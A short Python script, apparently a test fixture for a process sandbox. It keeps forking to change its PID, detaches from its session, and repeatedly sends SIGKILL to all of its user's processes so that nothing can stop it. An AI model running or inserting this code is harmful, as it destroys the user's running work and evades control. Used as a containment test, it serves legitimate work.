# Changes its process all the time, and kills the other processes of its user before they can kill it.
import os
import signal

print("started", flush=True)
while True:
    if os.fork() != 0:
        os._exit(0)
    try:
        os.setsid()
    except PermissionError:
        pass
    for _ in range(20):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
